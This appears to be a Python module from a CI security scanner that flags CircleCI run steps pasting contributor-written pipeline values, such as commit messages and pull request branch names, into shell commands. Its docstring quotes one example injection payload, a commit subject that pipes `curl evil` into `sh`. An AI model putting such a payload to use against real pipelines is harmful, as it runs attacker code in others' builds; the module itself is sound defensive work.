"""Where a CircleCI `run` step pastes a value someone outside the team writes: `Step.injections`.

CircleCI fills in `<< pipeline.* >>` values when it compiles the configuration, before any shell
reads the command: `command: echo "<< pipeline.git.commit.subject >>"` runs a commit subject
`"; curl evil | sh; "` as code. A table of the pipeline values whose text a contributor writes,
with their sources; the GitHub counterpart is `github_untrusted_contexts.py`.

Not listed: `pipeline.git.branch` (a fork's pull request builds as branch `pull/<number>`, and a
branch of the repository needs write access), `pipeline.git.tag`, `pipeline.parameters.*` (set
through the API or the web app, which need write access), ids, numbers and URLs.

Sources:
- https://circleci.com/changelog/expanded-pipeline-values-support/ (`pipeline.git.commit.subject`,
  `pipeline.git.commit.body`: the checkout commit's message; GitHub App pipelines)
- https://circleci.com/docs/guides/orchestrate/github-trigger-event-options/
  (`pipeline.event.github.pull_request.head.ref`: the head branch of the pull request)
- https://circleci.com/docs/guides/orchestrate/pipeline-variables/ (values are inserted when the
  configuration is compiled)
"""

from __future__ import annotations

import re

from ..model import Injection, Span, Step, Text

CONTROLLABLE: dict[str, str] = {
    "pipeline.git.commit.subject": "a commit message, written by the commit's author",
    "pipeline.git.commit.body": "a commit message, written by the commit's author",
    "pipeline.event.github.pull_request.head.ref": "a branch name chosen by whoever opens the pull request",
}
_VALUE = re.compile(r"<<\s*(pipeline(?:\.[A-Za-z0-9_-]+)+)\s*>>")


def read_injections(steps: list[Step]) -> None:
    """Fill `Step.injections` of a job's run steps."""
    for step in steps:
        if step.run is None or "<<" not in step.run.value:
            continue
        step.injections = [
            Injection(match.group(0), _span_of(step.run, match.start(), match.end()), match.group(1),
                      CONTROLLABLE[match.group(1)], "run")
            for match in _VALUE.finditer(step.run.value) if match.group(1) in CONTROLLABLE]


def _span_of(text: Text, start: int, end: int) -> Span:
    line = text.value.count("\n", 0, start)
    line_start = text.value.rfind("\n", 0, start) + 1
    return text.line_span(line, start - line_start, end - line_start)
